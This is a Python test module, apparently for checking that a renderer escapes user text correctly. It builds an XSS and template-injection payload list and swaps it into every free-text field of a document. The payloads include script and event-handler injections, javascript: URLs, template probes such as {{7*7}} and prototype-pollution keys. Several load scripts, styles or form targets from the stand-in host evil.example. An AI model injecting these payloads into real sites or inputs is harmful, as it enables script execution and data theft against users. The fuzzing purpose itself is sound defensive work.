"""Markup, scripts and styles as somebody might put them into a text, each in every place it could break out of."""

import itertools

_RUN = "alert(1)"
_VECTORS = (
    f"<script>{_RUN}</script>",
    "<script src=//evil.example/x.js></script>",
    f"<img src=x onerror={_RUN}>",
    f"<svg onload={_RUN}>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    f"<iframe srcdoc='<script>parent.{_RUN}</script>'>",
    f"<iframe src=javascript:{_RUN}>",
    f"<a href=javascript:{_RUN} autofocus>x</a>",
    f"<details open ontoggle={_RUN}>",
    f"<input autofocus onfocus={_RUN}>",
    f"<video><source onerror={_RUN}></video>",
    f"<object data=javascript:{_RUN}>",
    "<embed src=//evil.example/x.swf>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import'//evil.example/x.css'</style>",
    "<style>*{display:none!important}</style>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<base href=//evil.example/>",
    "<form action=//evil.example><button>x</button></form>",
    f"<math><mtext><style><img title='</style><img src=x onerror={_RUN}>'>",
    f"<noscript><p title='</noscript><img src=x onerror={_RUN}>'>",
    f"<template><script>{_RUN}</script></template>",
    f"<candour-procedure slug=x onclick={_RUN}>",
)
_BREAKS = ("", '">', "'>", "</script>", "<!--")
_ALONE = (
    f'" onmouseover="{_RUN}',
    f"' onfocus='{_RUN}' autofocus='",
    '" style="position:fixed;inset:0" x="',
    f"` onclick={_RUN} `",
    f"javascript:{_RUN}",
    f"JaVaScRiPt:{_RUN}",
    f"java&#9;script:{_RUN}",
    f"data:text/html,<script>{_RUN}</script>",
    f"&lt;script&gt;{_RUN}&lt;/script&gt;",
    f"&#60;script&#62;{_RUN}&#60;/script&#62;",
    f"\\u003cscript\\u003e{_RUN}\\u003c/script\\u003e",
    f"%3Cscript%3E{_RUN}%3C/script%3E",
    "<!--<script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    f"]]><script>{_RUN}</script>",
    "{{ 7 * 7 }}{% raw %}",
    "{{ frame.publisher }}",
    "{% include 'base.html' %}",
    "${7*7}#{7*7}<%= 7*7 %>",
    "%(count)s %s %n {0.__class__}",
    "*/ } </style> /*",
    '\\"-alert(1)}//',
    "'-alert(1)-'",
    "[x](javascript:alert(1))",
    "expression(alert(1))",
    "url(//evil.example/x.png)",
    '"}],"@type":"Person","name":"x',
    "constructor",
    "__proto__",
    "<",
    "&",
    "&amp;lt;",
    '"',
    "'",
    "</",
    "<a",
)
PAYLOADS = tuple(
    dict.fromkeys(
        (*(f"{before}{vector}" for vector, before in itertools.product(_VECTORS, _BREAKS)), *_ALONE)
    )
)
"""At least 150 different texts, each short enough for a label."""
TEXTS = frozenset(
    [
        "text",
        "name",
        "label",
        "hedge",
        "wording",
        "words",
        "rank_reason",
        "note",
        "phrase",
        "attributed_to",
        "title",
        "publisher",
        "author",
        "commercial_interest",
        "rights",
        "about",
        "severity",
        "frequency",
        "onset",
        "what_to_do",
        "mechanism",
        "ask",
        "level",
        "degree",
        "event",
        "reason",
        "role",
        "section",
        "page",
    ]
)
"""The members of a document that hold words which somebody wrote."""


def laced(tree: object, payload: str) -> object:
    """Return a document with this text in the place of every text in it."""
    if isinstance(tree, dict):
        return {
            key: payload
            if key in TEXTS and isinstance(value, str) and value != "unknown"
            else laced(value, payload)
            for key, value in tree.items()
        }
    if isinstance(tree, list):
        return [laced(item, payload) for item in tree]
    return tree
